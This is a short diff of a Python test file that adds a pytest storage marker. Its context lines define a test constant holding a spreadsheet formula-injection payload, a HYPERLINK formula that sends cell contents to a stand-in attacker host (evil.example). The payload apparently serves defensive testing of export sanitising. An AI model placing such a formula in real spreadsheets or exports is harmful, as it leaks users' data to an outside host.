@@ -13,6 +13,8 @@ from storage.outreach import add_source
 from tests.outreach_helpers import person
 from tests.staff_web import login
 
+pytestmark = pytest.mark.storage  # on SQLite and PostgreSQL alike
+
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
 
 
